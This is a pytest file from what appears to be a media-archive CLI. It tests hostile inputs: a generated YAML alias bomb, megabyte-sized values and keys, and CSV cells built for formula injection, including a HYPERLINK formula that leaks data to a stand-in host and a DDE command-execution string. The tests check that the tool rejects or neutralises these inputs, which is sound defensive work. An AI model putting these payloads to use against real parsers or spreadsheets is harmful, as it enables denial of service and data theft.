"""The bad-input matrix, continued (issue 12, the archive's side): hostile manifests,
config files, article servers, catalogues, backups and odd files, each through the
real CLI against a copy of an archive that already holds content (see
tests/support/bad_input.py), checking the exit code, the message, the recorded status
and that nothing archived before changed.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests import test_bad_input as matrix
from tests.support.bad_input import Case, Snapshot, assert_clear

# the matrix's fixtures: a loopback site, the baseline archive, a private copy of it
bad_site, baseline, case = matrix.bad_site, matrix.baseline, matrix.case

# Nine levels of nine aliases: 9**9 (387 million) strings from a few hundred bytes.
ALIAS_BOMB = "".join(
    f"{name}: &{name} [{', '.join([f'*{previous}'] * 9) if previous else ', '.join(['lol'] * 9)}]\n"
    for previous, name in zip([None, *"abcdefgh"], "abcdefghi", strict=True)
)
# -- YAML: aliases refused, quoted values bounded ----------------------------------------


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        pytest.param(
            ALIAS_BOMB + "clips: *i\n", "aliases (*name) are not allowed", id="alias-bomb"
        ),
        pytest.param(
            "clips:\n  - 'htp://" + "x" * 1_000_000 + "'\n",
            "is not a valid URL",
            id="1MB-value",
        ),
        pytest.param(
            # an explicit key: YAML caps implicit ones at 1024 characters
            "clips: [https://example.org/v.mp4]\n? " + "y" * 1_000_000 + "\n: 1\n",
            "unknown field",
            id="1MB-key",
        ),
    ],
)
def test_hostile_manifest(case: Case, text, phrase):
    manifest = case.input_file("hostile.yaml", text)
    result = case.run("archive", "--no-transcribe", str(manifest))
    assert_clear(result, 1, "bad_manifest", phrase)
    assert len(result.output) < 2000, f"{len(result.output)} characters of output"
    [item] = case.new_rows("run_items")
    assert item["status"] == "bad_manifest" and len(item["error_message"]) < 1000
    assert case.new_rows("captures") == []
    case.assert_intact()


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        pytest.param(
            ALIAS_BOMB + "recrawl:\n  first_day_every: *i\n",
            "aliases (*name) are not allowed",
            id="alias-bomb",
        ),
        pytest.param(
            "recrawl:\n  first_day_every: '" + "9" * 1_000_000 + "'\n",
            "not a duration",
            id="1MB-value",
        ),
        pytest.param(
            "recrawl:\n  ? " + "z" * 1_000_000 + "\n  : 1\n",
            "unknown recrawl setting",
            id="1MB-key",
        ),
    ],
)
def test_hostile_config(case: Case, text, phrase):
    """ARCHIVE/config.yaml travels with a backup, so it may come from someone else."""
    (case.archive / "config.yaml").write_text(text, encoding="utf-8")
    case.before = Snapshot.of(case.archive)
    url = case.clip_page("config", case.site.media.clip)
    result = case.run("capture", "--retries", "0", url)
    assert_clear(result, 1, "config.yaml", phrase)
    assert len(result.output) < 2000, f"{len(result.output)} characters of output"
    assert case.new_rows("captures") == []
    case.assert_intact()


# -- CSV: cells a spreadsheet would evaluate --------------------------------------------


def test_exported_csv_holds_no_formulas(case: Case):
    url = case.clip_page(
        "formula",
        case.site.media.other_clip,
        name='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        author={"@type": "Person", "name": "+1+1"},
    )
    article = case.input_file("formula.txt", "-2+3 is what a worker films on his night shift.\n")
    manifest = case.input_file(
        "formula.yaml",
        "articles:\n"
        f"  - path: {article.name}\n"
        "    outlet: '=1+2'\n"
        "links:\n"
        "  - claim: a worker films\n"
        f"    clip: {url}\n",
    )
    built = case.run("archive", "--no-transcribe", str(manifest))
    assert_clear(built, 0)
    result = case.run("export", "claims", "--format", "csv")
    assert_clear(result, 0)
    [row] = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["clip_url"] == url]
    assert row["clip_title"] == "'" + '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert row["clip_description"].startswith("'@SUM")
    assert row["uploader"] == "'+1+1"
    assert row["outlet"] == "'=1+2"
    assert row["claim"].startswith("'-2+3")
    for cells in csv.reader(io.StringIO(result.stdout)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    case.assert_intact()
